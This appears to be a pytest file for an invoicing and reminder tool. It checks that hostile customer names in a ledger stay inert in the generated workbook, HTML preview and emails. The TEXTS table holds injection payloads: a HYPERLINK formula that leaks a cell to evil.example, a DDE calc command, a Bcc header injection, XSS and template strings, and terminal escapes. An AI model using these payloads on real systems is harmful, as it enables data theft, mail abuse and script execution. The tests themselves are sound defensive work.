"""Texts of a ledger that are made to break something: formulas, headers, markup, control characters, very long or strange names."""

import csv
import json
import re
import unicodedata
import zipfile
from dataclasses import dataclass

import pytest
from lxml import etree
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from tests.jobs.desk import DAY, HEADINGS, Desk, Said, bodies, read_mail

FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"cliquez")'
TEXTS = {
    "formula": FORMULA,
    "command": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "header": "Maison Vent\r\nBcc: victime@evil.example\r\n\r\n<b>corps</b>",
    "markup": "<script>alert(1)</script></script><img src=x onerror=alert(2)>",
    "template": "{{ 7*7 }}{% raw %}${7*7}",
    "control": "Maison\x07\x1b[31mrouge\x08\x0b\x1f fin",
    "long": "Très long nom de société " * 12,
    "emoji": "Café 🦊👩‍👩‍👧 ☕ SARL",
    "rtl": "\u202egpj.exe\u202c شركة الاختبار",
    "quotes": "O'Neil & Fils \"Les <Frères>\" ]]> --> &amp;",
    "escape": "_x000D_ & _x0041_",
}  # fmt: skip
# What a mail may carry; nothing of a ledger may add to it.
HEADERS = {
    "From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "Content-Type", "Auto-Submitted", "Reply-To",
    "Content-Language", "X-Auto-Response-Suppress", "Content-Transfer-Encoding", "Precedence",
}  # fmt: skip


@dataclass(frozen=True)
class Attack:
    """A run of such a ledger and the sending of its workbook."""

    desk: Desk
    ran: Said
    sent: Said


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Attack:
    """Run and send a ledger in which every text that a customer can choose is one of these."""
    desk = Desk(tmp_path_factory.mktemp("hostile"))
    (desk.folder / "relance.toml").write_text(
        '[company]\nname = "Atelier"\nemail = "a@atelier.example"\n', encoding="utf-8"
    )
    with (desk.folder / "ledger.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file, delimiter=";")
        rows.writerow(HEADINGS.split(";"))
        for at, (code, text) in enumerate(TEXTS.items(), start=1):
            number = FORMULA if code == "formula" else f"FA-{at} {text[:12]}"
            address = f"client{at}@maison.example" + ("\nBcc: victime@evil.example" if code == "control" else "")
            rows.writerow(
                [
                    f"411{at:02}",
                    text,
                    address,
                    text,
                    number,
                    "01/10/2026",
                    "31/10/2026",
                    "900,00",
                    "900,00",
                    "",
                    "EUR",
                    text,
                ]
            )
    ran = desk.relance("run", "ledger.csv", "--as-of", DAY)
    workbook = desk.workbook(name="ledger-annotated.xlsx")
    return Attack(desk, ran, desk.relance("send", workbook, "--as-of", DAY, "--yes"))


def test_the_run_and_the_sending_go_through(attack: Attack) -> None:
    """Every customer is in the plan, their mails leave; the terminal is given no control characters."""
    assert (attack.ran.code, attack.ran.err, attack.sent.err) == (0, "", "")
    assert attack.sent.code == 0
    assert len(attack.desk.plan()["debtors"]) == len(TEXTS)
    told = attack.ran.out + attack.sent.out
    assert [mark for mark in set(told) - {"\n"} if unicodedata.category(mark) == "Cc"] == []


def test_no_cell_is_a_formula(attack: Attack) -> None:
    """Both openpyxl and calamine open the workbook, every part is valid XML, and no cell computes anything."""
    path = attack.desk.workbook(name="ledger-annotated.xlsx")
    book = load_workbook(path)
    formulas = [cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    names = {
        row[2] for row in CalamineWorkbook.from_path(str(path)).get_sheet_by_name("Revue").to_python() if len(row) > 2
    }
    assert FORMULA in names
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                etree.fromstring(archive.read(name))


def test_the_preview_runs_nothing_of_theirs(attack: Attack) -> None:
    """The page holds their texts as text only."""
    page = (attack.desk.folder / "relance-out" / DAY / "preview.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert page.count("<script") == page.count("</script>")


def test_mails_have_no_foreign_headers(attack: Attack) -> None:
    """One recipient each, the ledger's own; no header, no line of a header, comes from a text; the HTML is escaped."""
    mails = [read_mail(path) for path in sorted(attack.desk.folder.rglob("*.eml"))]
    assert len(mails) >= len(TEXTS) - 1
    for mail in mails:
        assert set(mail.keys()) <= HEADERS
        assert re.fullmatch(r"client\d+@maison\.example", str(mail["To"]))
        assert "\n" not in str(mail["Subject"])
        text, html = bodies(mail)
        assert "<script" not in html
        assert "onerror=alert(2)>" not in html
        assert "900,00 €" in text
        assert [mark for mark in text if unicodedata.category(mark) == "Cc"] == []
    raw = [
        path.read_bytes().partition(b"\r\n\r\n")[0].partition(b"\n\n")[0] for path in attack.desk.folder.rglob("*.eml")
    ]
    assert [head for head in raw if re.search(rb"^bcc:", head, re.IGNORECASE | re.MULTILINE)] == []


def test_templates_in_names_stay_text(attack: Attack) -> None:
    """What looks like a template is not evaluated."""
    written = json.dumps(attack.desk.plan(), ensure_ascii=False)
    assert "{{ 7*7 }}" in written
    whole = " ".join(bodies(read_mail(path))[0] for path in attack.desk.folder.rglob("*.eml"))
    assert "{{ 7*7 }}" in whole
